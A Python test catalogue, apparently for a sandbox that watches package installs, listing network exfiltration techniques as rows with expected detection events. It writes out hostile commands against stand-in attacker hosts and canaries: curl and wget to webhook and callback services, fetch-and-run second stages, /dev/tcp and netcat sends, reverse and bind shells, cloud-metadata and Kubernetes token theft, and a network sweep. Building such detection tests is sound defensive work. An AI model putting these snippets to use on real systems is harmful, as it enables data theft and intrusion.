"""Section C of the catalogue: the network, and ways to carry something out over it."""
from __future__ import annotations

import socket
import textwrap
import threading

from lib.daemons import CONNECTED
from lib.fakenet import HOST4, INET4, INET6, in_netns

from ..kit import Effect, Event, Row, name, output, sink, told

HEAD = """
import base64, json, os, pwkit, socket, ssl, struct, subprocess, sys, time, urllib.request
CANARY, SINK, SINK6 = pwkit.target("canary"), pwkit.target("sink_host"), pwkit.target("sink_host6")
attempt = pwkit.attempt

def ask(url, data=None, method=None, **headers):
    request = urllib.request.Request(url, data, headers, method=method)
    with urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ssl._create_unverified_context())).open(request, timeout=5) as f:
        return f.read()

def run(*argv, **more):
    more.setdefault("input", b"")
    p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=10, **more)
    pwkit.say("%s: %d %r" % (argv[0], p.returncode, p.stdout[-200:]))
    return p.stdout
"""


def act(text: str) -> str:
    return HEAD + textwrap.dedent(text)


def resolve(rule: str, host: str, severity: str = "info") -> Event:
    return Event(rule, "net.resolve", {"host": host}, severity)


def connect(address: str = INET4, port: int | str = "*", rule: str = "net.outside", severity: str = "medium") -> Event:
    return Event(rule, "net.connect", {"address": address, "port": str(port)}, severity)


def sent(address: str = INET4, port: int | str = "*", rule: str = "net.outside", severity: str = "medium") -> Event:
    return Event(rule, "net.send", {"address": address, "port": str(port)}, severity)


def refused_socket(pattern: str, rule: str = "net.socket.*") -> Event:
    return Event(rule, "net.socket", {"name": pattern})


# --- what rows need outside

# Daemons that many machines have on their loopback, and what each would say.
LOOPBACK = {"redis": (6379, b"+OK\r\n"), "vault": (8200, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"), "docker": (2375, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n[]"),
            "jupyter": (8888, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"), "devtools": (9222, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n[]"), "adb": (5037, b"OKAY0000")}


def loopback(world, row):
    return {f"port_{n}": world.daemon(f"{row.id}-{n}", port=port, answer=lambda _, reply=reply: reply) for n, (port, reply) in LOOPBACK.items()}


def tor(world, row):
    world.daemons.loopback("tor", 9050, answer=lambda piece: b"\5\0" if len(piece) < 5 else b"\5\0\0\1\0\0\0\0\0\0")


def six(world, row):
    world.daemons.loopback("six", 6600, host="::1")


def multicast(world, row):
    world.daemons.netlink("netlink", socket.NETLINK_USERSOCK, 1)


def relay(world, row):
    """A helper of the attacker's outside, which would forward to the sink."""
    return {"relay": world.daemon("relay", abstract="relay-" + world.nonce)}


def knocker(world, row):
    """Somebody outside who comes in as soon as something listens."""
    port, stop, told_it = 4700 + world.user.uid % 200, threading.Event(), world.told.setdefault("knocker", [])

    def knock():
        while not stop.wait(0.1):
            with socket.socket() as s:
                s.settimeout(2)
                if s.connect_ex((HOST4, port)) == 0:
                    told_it.append(CONNECTED)
                    try:
                        told_it.append(s.recv(4096))
                    except OSError:
                        pass
                    return

    thread = threading.Thread(target=in_netns, args=(world.net.inet_ns, knock), daemon=True)
    thread.start()
    world.defer(thread.join, 5)
    world.defer(stop.set)
    return {"port": port}


def cluster(world, row):
    world.system("/run/secrets/kubernetes.io/serviceaccount/token", mode=0o644)


def scanned(world, row, result) -> str:
    seen = {p.destination for p in world.net.sink.packets if p.destination.startswith("10.66.7.")}
    return f"{len(seen)} machines were tried" if seen else ""


def ssh_banner(world, row, result) -> str:
    return "ssh spoke" if any(port == 22 and b"SSH-2.0-" in piece for port, piece in world.net.sink.streams) else ""


def by_udp(world, row, result) -> str:
    """Each of the three."""
    seen = {p.destination for p in world.net.sink.packets if world.canary(row).encode() in p.payload}
    return f"at {', '.join(sorted(seen))}" if seen else ""


# Started outside the sandbox: a connected socket and a folder of secrets as descriptors 7 and 8.
INHERITED = ("/bin/bash", "-c", 'exec 7<>/dev/tcp/%s/4444 8<"$HOME" && exec "$@"' % INET4, "bash")

ROWS = [
    Row("NE-01", "metadata hook posts to a Pipedream endpoint", "metadata", act("""
        attempt(ask, "https://eo1okaacdq0r7kx.m.pipedream.net/", json.dumps({"host": socket.gethostname(), "canary": CANARY}).encode())
        """), sink(), resolve("net.exfil.pipedream", "eo1okaacdq0r7kx.m.pipedream.net", "critical"), legacy=True),
    Row("NE-02", "install command calls back to an out-of-band name", "install", act("""
        attempt(ask, "http://pw7x2.oastify.com/?hostname=%s&cwd=%s&username=%s" % (socket.gethostname(), os.getcwd(), CANARY))
        """), sink(), resolve("net.exfil.collaborator", "pw7x2.oastify.com", "critical")),
    Row("NE-03", "plain text to an address, no name resolved", "metadata", act("""
        attempt(pwkit.send, CANARY, SINK, 4444)
        """), sink(), connect(port=4444)),
    Row("NE-04", "curl child with a shell pipeline", "metadata", act("""
        with open("loot.txt", "w") as f:
            f.write(CANARY)
        attempt(run, "sh", "-c", "curl -s -m 5 -X POST -H \\"x-host: $(hostname) $(id)\\" -d @loot.txt http://webhook.site/pwfix")
        """), sink(), resolve("net.exfil.webhook-site", "webhook.site", "critical"), needs=("curl",)),
    Row("NE-05", "wget of a second stage, then sh", "metadata", act("""
        attempt(run, "sh", "-c", "wget -q -t 1 -T 5 -O stage2 http://stage.attacker.test/%s && sh ./stage2" % CANARY)
        """), sink(), resolve("net.resolve", "stage.attacker.test"), needs=("wget",)),
    Row("NE-06", "openssl encrypts, then s_client sends", "build", act("""
        loot = attempt(run, "openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-k", "x", "-base64", input=CANARY.encode()) or b""
        attempt(run, "openssl", "s_client", "-quiet", "-no_ign_eof", "-connect", SINK + ":443", input=b"POST /" + CANARY.encode() + b" HTTP/1.0\\r\\n\\r\\n" + loot)
        """), sink(), connect(port=443), needs=("openssl",)),
    Row("NE-07", "bash's /dev/tcp and /dev/udp", "metadata", act("""
        attempt(run, "bash", "-c", "echo %s > /dev/tcp/%s/4444" % (CANARY, SINK))
        attempt(run, "bash", "-c", "echo %s > /dev/udp/%s/4444" % (CANARY, SINK))
        """), sink(), (connect(port=4444), connect(port=4444, rule="net.outside.probe", severity="info")), needs=("bash",)),
    Row("NE-08", "nc, socat, telnet, ncat", "metadata", act("""
        line = CANARY.encode() + b"\\n"
        for argv in (["nc", "-N", "-w", "3", SINK, "4444"], ["socat", "-", "TCP:%s:4444,connect-timeout=3" % SINK], ["ncat", SINK, "4444"], ["telnet", SINK, "4444"]):
            attempt(run, *argv, input=line)
        """), sink(), connect(port=4444), needs=("nc",), note="socat, ncat and telnet are tried where they are"),
    Row("NE-09", "sockets of perl, node, ruby, php, lua", "metadata", act("""
        attempt(run, "perl", "-MIO::Socket::INET", "-e", 'my $s = IO::Socket::INET->new("%s:4444") or die; print $s "%s\\n"' % (SINK, CANARY))
        attempt(run, "node", "-e", 'const s = require("net").connect(4444, "%s", () => s.end("%s\\n")); s.on("error", () => {})' % (SINK, CANARY))
        attempt(run, "ruby", "-rsocket", "-e", 'TCPSocket.new("%s", 4444).puts("%s")' % (SINK, CANARY))
        attempt(run, "php", "-r", 'fwrite(fsockopen("%s", 4444), "%s");' % (SINK, CANARY))
        """), sink(), connect(port=4444), needs=("perl",), note="node, ruby and php are tried where they are"),
    Row("NE-10", "reverse shell on a connected socket", "import", act("""
        s = attempt(socket.create_connection, (SINK, 4444), 5)
        if s:
            subprocess.call(["/bin/sh", "-c", "echo " + CANARY], stdin=s, stdout=s, stderr=s, start_new_session=True)
        """), sink(), connect(port=4444)),
    Row("NE-11", "ssh, scp and rsync over ssh", "metadata", act("""
        quick = ["-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "ConnectionAttempts=1"]
        attempt(run, "timeout", "2", "ssh", *quick, "u@" + SINK, "cat >f")
        attempt(run, "timeout", "2", "scp", *quick, __file__, "u@" + SINK + ":f")
        """), Effect.call(ssh_banner), connect(port=22), needs=("ssh",)),
    Row("NE-12", "git push and ls-remote to the attacker", "build", act("""
        quick = ["git", "-c", "http.sslVerify=false", "-c", "user.email=x@x", "-c", "user.name=x"]
        attempt(run, *quick, "init", "-q", "r")
        attempt(run, *quick, "-C", "r", "commit", "-q", "--allow-empty", "-m", "x")
        attempt(run, *quick, "-C", "r", "push", "-q", "https://%s/%s/r.git" % (SINK, CANARY), "HEAD:x")
        attempt(run, *quick, "ls-remote", "https://%s.git.attacker.test/r.git" % CANARY)
        """), (sink(), name("{canary}.git.attacker.test")), (connect(port=443), resolve("net.resolve", "canary*.git.attacker.test")), needs=("git",)),
    Row("NE-13", "nested pip with data in the index URL", "metadata", act("""
        attempt(run, sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--retries", "0", "--timeout", "2", "--trusted-host", SINK,
                "--index-url", "http://user:pw@%s/%s/simple" % (SINK, CANARY), "pwnothing", env={k: v for k, v in os.environ.items() if not k.startswith("PIP_")})
        """), sink(), connect(port=80)),
    Row("NE-14", "package upload as a channel, to the index's own host", "import", act("""
        body = "--b\\r\\nContent-Disposition: form-data; name=\\":action\\"\\r\\n\\r\\nfile_upload\\r\\n--b\\r\\nContent-Disposition: form-data; name=\\"content\\"\\r\\n\\r\\n%s\\r\\n--b--" % CANARY
        attempt(ask, "http://index.test:8080/legacy/", body.encode(), **{"Content-Type": "multipart/form-data; boundary=b"})
        """), sink(), resolve("net.resolve", "index.test")),
    Row("NE-15", "Discord webhook, Telegram bot", "metadata", act("""
        attempt(ask, "https://discord.com/api/webhooks/1/x", json.dumps({"content": CANARY}).encode())
        attempt(ask, "https://api.telegram.org/bot1:x/sendDocument", CANARY.encode())
        """), sink(), (resolve("net.exfil.discord", "discord.com", "critical"), resolve("net.exfil.telegram", "api.telegram.org", "critical"))),
    Row("NE-16", "Zulip polled and posted to", "import", act("""
        attempt(ask, "https://pw.zulipchat.com/api/v1/messages?anchor=newest", Authorization="Basic x")
        attempt(ask, "https://pw.zulipchat.com/api/v1/messages", ("type=stream&content=" + CANARY).encode())
        """), sink(), resolve("net.exfil.zulip", "pw.zulipchat.com", "critical")),
    Row("NE-17", "a code host's API as a drop", "import", act("""
        attempt(ask, "https://api.github.com/user/repos", json.dumps({"name": CANARY}).encode(), Authorization="Bearer x")
        attempt(ask, "https://uploads.github.com/repos/x/y/releases/1/assets", CANARY.encode(), "PUT")
        """), sink(), (resolve("net.watch.github", "api.github.com", "medium"), resolve("net.watch.github", "uploads.github.com", "medium"))),
    Row("NE-18", "PUT to a presigned bucket URL", "import", act("""
        attempt(ask, "https://pw-drop.s3.amazonaws.com/x?X-Amz-Signature=0", CANARY.encode(), "PUT")
        """), sink(), resolve("net.watch.bucket", "pw-drop.s3.amazonaws.com", "medium")),
    Row("NE-19", "mail by SMTP over TLS", "import", act("""
        def mail():
            with ssl._create_unverified_context().wrap_socket(socket.create_connection(("smtp.gmail.com", 465), 5)) as s:
                s.sendall(("EHLO x\\r\\nAUTH LOGIN\\r\\nMAIL FROM:<a@b>\\r\\nRCPT TO:<c@d>\\r\\nDATA\\r\\n%s\\r\\n.\\r\\nQUIT\\r\\n" % CANARY).encode())
        attempt(mail)
        """), sink(), resolve("net.exfil.gmail-smtp", "smtp.gmail.com", "critical")),
    Row("NE-20", "WebSocket as a tunnel", "import", act("""
        def upgrade():
            with ssl._create_unverified_context().wrap_socket(socket.create_connection(("tunnel.attacker.test", 443), 5)) as s:
                s.sendall(("GET /%s HTTP/1.1\\r\\nHost: tunnel\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: eA==\\r\\n\\r\\n" % CANARY).encode())
                s.recv(100)
        attempt(upgrade)
        """), sink(), resolve("net.resolve", "tunnel.attacker.test")),
    Row("NE-21", "the allowed index as a channel", "metadata", act("""
        attempt(ask, "http://index.test:8080/simple/%s/?x=%s" % (base64.b32encode(CANARY.encode()).decode().strip("=").lower(), CANARY))
        """), sink(), resolve("net.resolve", "index.test")),
    Row("NE-23", "unconnected UDP", "native", "", sink(), sent(port=5353), native="udp_sendto"),
    Row("NE-24", "sendmmsg to three addresses, sendmsg with its name on another page", "native", "", Effect.call(by_udp),
        (sent("198.51.100.1", 4444), sent("198.51.100.2", 4444), sent("198.51.100.3", 4444), sent("198.51.100.4", 4444)), native="udp_sendmmsg"),
    Row("NE-25", "IPv6: loopback, global, with a scope", "metadata", act("""
        attempt(pwkit.send, CANARY, "::1", 6600)
        attempt(pwkit.send, CANARY, SINK6, 4444)
        attempt(pwkit.send, CANARY, "fe80::2%lo", 4444)
        """), (sink(), told("six")), (connect("::1", 6600, "net.loopback", "info"), connect(INET6, 4444)), setup=six),
    Row("NE-26", "IPv4 inside IPv6: mapped and compatible", "metadata", act("""
        attempt(pwkit.send, CANARY, "::ffff:" + SINK, 4444)
        attempt(pwkit.send, CANARY, "::" + SINK, 4444)
        """), sink(), (connect(port=4444), connect("::" + INET4, 4444))),
    Row("NE-27", "odd spellings of an address", "metadata", act("""
        a, b, c, d = (int(n) for n in SINK.split("."))
        for text in (str(a << 24 | b << 16 | c << 8 | d), "0x%02x%02x%02x%02x" % (a, b, c, d), "%d.%d.%d" % (a, b, c << 8 | d), "0%o.0%o.0%o.0%o" % (a, b, c, d)):
            attempt(pwkit.send, CANARY, text, 4444)
        """), sink(), (connect(port=4444), *(Event("net.resolve.spelling", "net.resolve", {"host": text, "address": INET4}, action="allowed")
                                                 for text in ("181075970", "0x0acb0002", "10.203.2", "012.0313.00.02")))),
    Row("NE-28", "TCP Fast Open: data without connect", "native", "", sink(), Event("net.fastopen", "net.connect", {"address": INET4, "port": "4444"}, "medium"), native="fast_open"),
    Row("NE-30", "MPTCP, SCTP, UDP-Lite, DCCP", "native", "", sink(), (refused_socket("AF_INET/SOCK_STREAM/262"), refused_socket("AF_INET/SOCK_DGRAM/136"),
        refused_socket("AF_INET/SOCK_STREAM/132"), refused_socket("AF_INET/6/33")), native="odd_protocols"),
    Row("NE-31", "ICMP: ping socket, raw socket, ping", "native", "", sink(), (refused_socket("AF_INET/SOCK_DGRAM/1", "net.socket.raw"),
        refused_socket("AF_INET/SOCK_RAW/1", "net.socket.raw")), native="icmp"),
    Row("NE-32", "packet, netlink, vsock, XDP and other families", "native", "", (told("netlink"), output("MADE:")), (
        refused_socket("AF_PACKET/*", "net.socket.raw"), refused_socket("AF_NETLINK/SOCK_DGRAM/2"), refused_socket("AF_VSOCK/*"), refused_socket("AF_ALG/*"),
        refused_socket("AF_BLUETOOTH/*"), refused_socket("AF_XDP/*"), refused_socket("AF_TIPC/*")), native="families", setup=multicast),
    Row("NE-33", "bind shell", "import", act("""
        def listen():
            with socket.create_server(("0.0.0.0", pwkit.target("port"))) as s:
                s.settimeout(1.5)
                with s.accept()[0] as c:
                    c.sendall(CANARY.encode())
        attempt(listen)
        """), told("knocker"), Event("net.bind", "net.bind", {"address": "0.0.0.0"}, action="allowed"), setup=knocker),
    Row("NE-34", "abstract socket of a helper outside", "native", "", told("relay"), Event("net.unix", "ipc.connect", {"path": "@relay-*"}, "high"),
        native="abstract_relay", setup=relay),
    Row("NE-36", "inherited socket and folder", "script", act("""
        attempt(os.write, 7, CANARY.encode())
        attempt(lambda: pwkit.loot(os.read(os.open(".netrc", os.O_RDONLY, dir_fd=8), 4096)))
        """), (sink(), Effect.loot()), None, outside=INHERITED, note="a command of its own: pip closes what its children would inherit"),
    Row("NE-37", "an attacker's proxy for honest tools", "metadata", act("""
        os.environ.update({n: "http://%s:80" % SINK for n in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY")}, PIP_INDEX_URL="http://%s/simple" % SINK)
        attempt(run, "curl", "-s", "-m", "5", "http://honest.attacker.test/" + CANARY)
        """), sink(), connect(port=80), needs=("curl",)),
    Row("NE-39", "redirect from the allowed index to another host", "metadata", act("""
        attempt(ask, "http://index.test:8080/away/" + CANARY)
        """), name("away.attacker.test"), (resolve("net.resolve", "index.test"), resolve("net.resolve.installer", "away.attacker.test")), alone=True,
        env={"PIP_EXTRA_INDEX_URL": "http://index.test:8080/away/{canary}"}),
    Row("NE-40", "name that changes its address after the check", "metadata", act("""
        attempt(socket.getaddrinfo, "rebind.attacker.test", 80)
        attempt(pwkit.send, CANARY, "rebind.attacker.test", 80)
        """), (sink(), name("rebind.attacker.test")), resolve("net.resolve", "rebind.attacker.test")),
    Row("NE-41", "allowed host, wrong port", "metadata", act("""
        attempt(pwkit.send, CANARY, "index.test", 22)
        attempt(pwkit.send, CANARY, SINK, 22)
        """), sink(), (resolve("net.resolve", "index.test"), connect(port=22))),
    Row("NE-42", "cloud metadata services", "import", act("""
        attempt(ask, "http://169.254.169.254/latest/api/token?" + CANARY, b"", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "60"})
        attempt(ask, "http://[fd00:ec2::254]/latest/meta-data/?" + CANARY)
        attempt(ask, "http://169.254.170.2/v2/credentials/" + CANARY)
        attempt(ask, "http://metadata.google.internal/computeMetadata/v1/?" + CANARY, **{"Metadata-Flavor": "Google"})
        """), sink(), (connect("169.254.169.254", 80, "net.metadata.cloud", "critical"), connect("fd00:ec2::254", 80, "net.metadata.cloud", "critical"),
                       connect("169.254.170.2", 80, "net.metadata.container", "critical"), resolve("net.metadata.cloud", "metadata.google.internal", "critical"))),
    Row("NE-43", "Kubernetes API with the mounted token", "import", act("""
        token = pwkit.read("/var/run/secrets/kubernetes.io/serviceaccount/token")
        pwkit.loot(token)
        attempt(ask, "https://kubernetes.default.svc/api/v1/secrets?" + CANARY, Authorization="Bearer " + token.decode().strip())
        """), (sink(), Effect.loot()), (Event("file.kube", "file.open", severity="critical"), resolve("net.metadata.kubernetes", "kubernetes.default.svc", "critical")),
        setup=cluster),
    Row("NE-44", "daemons on the machine's loopback", "build", act("""
        for daemon, text in (("redis", "CONFIG SET dir /tmp\\r\\n"), ("vault", "GET /v1/secret HTTP/1.1\\r\\n\\r\\n"), ("docker", "GET /containers/json HTTP/1.1\\r\\n\\r\\n"),
                             ("jupyter", "GET /api HTTP/1.1\\r\\n\\r\\n"), ("devtools", "GET /json HTTP/1.1\\r\\n\\r\\n"), ("adb", "000chost:version")):
            attempt(pwkit.send, text + CANARY, "127.0.0.1", pwkit.target("port_" + daemon))
        """), tuple(told(f"NE-44-{n}") for n in LOOPBACK), tuple(connect("127.0.0.1", port, "net.loopback.daemon") for port, _ in LOOPBACK.values()), setup=loopback),
    Row("NE-45", "sweep of a local network", "import", act("""
        for low in range(1, 255):
            for port in (22, 80, 2375):
                with socket.socket() as s:
                    s.setblocking(False)
                    s.connect_ex(("10.66.7.%d" % low, port))
        time.sleep(0.05)
        """), Effect.call(scanned), Event("net.sweep", "net.connect", {"address": "10.66.7.0/24"}, "high")),
    Row("NE-47", "network by io_uring", "native", "", sink(), Event("syscall.io_uring", "syscall.denied"), native="uring_network"),
    Row("NE-48", "UDP bursts and multicast", "build", act("""
        s = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
        for address in [(SINK, 443)] * 20 + [("224.0.0.251", 5353), ("239.255.255.250", 1900)]:
            s and attempt(s.sendto, CANARY.encode(), address)
        """), sink(), (sent(port=443), sent("224.0.0.251", 5353), sent("239.255.255.250", 1900))),
    Row("NE-49", "one way out after the other", "import", act("""
        attempt(ask, "https://webhook.site/pwfix", CANARY.encode())
        attempt(socket.gethostbyname, CANARY + ".dns.attacker.test")
        attempt(ask, "https://api.github.com/user/repos", CANARY.encode())
        attempt(pwkit.mark, "/tmp/.pwfix-" + CANARY)
        """), (sink(), name("{canary}.dns.attacker.test"), Effect.file("/tmp/.pwfix-{canary}")),
        (resolve("net.exfil.webhook-site", "webhook.site", "critical"), resolve("net.resolve", "canary*.dns.attacker.test"), resolve("net.watch.github", "api.github.com"))),
    Row("NE-50", "slow drip from a thread of the build", "build", act("""
        import threading
        def drip():
            with socket.create_connection((SINK, 4444), 5) as s:
                for letter in CANARY + "\\n":
                    s.sendall(letter.encode())
                    time.sleep(0.01)
        t = threading.Thread(target=attempt, args=(drip,))
        t.start()
        t.join(10)
        """), Effect.call(lambda world, row, result: "drop by drop" if world.canary(row).encode() in b"".join(b for _, b in world.net.sink.streams) else ""),
        connect(port=4444)),
    Row("NE-51", "Tor by a SOCKS proxy on the loopback", "build", act("""
        def socks():
            with socket.create_connection(("127.0.0.1", 9050), 5) as s:
                s.sendall(b"\\5\\1\\0")
                s.recv(2)
                host = CANARY.lower().encode() + b".onion"
                s.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack("!H", 80))
                s.recv(10)
        attempt(socks)
        """), told("tor"), connect("127.0.0.1", 9050, "net.loopback.daemon"), setup=tor),
    Row("NE-52", "a chain's node by JSON-RPC", "import", act("""
        call = {"jsonrpc": "2.0", "id": 1, "method": "sendTransaction", "params": [base64.b64encode(CANARY.encode()).decode(), {"memo": CANARY}]}
        attempt(ask, "https://api.devnet.solana.com/", json.dumps(call).encode(), **{"Content-Type": "application/json"})
        """), sink(), resolve("net.exfil.chain", "api.devnet.solana.com", "critical")),
]
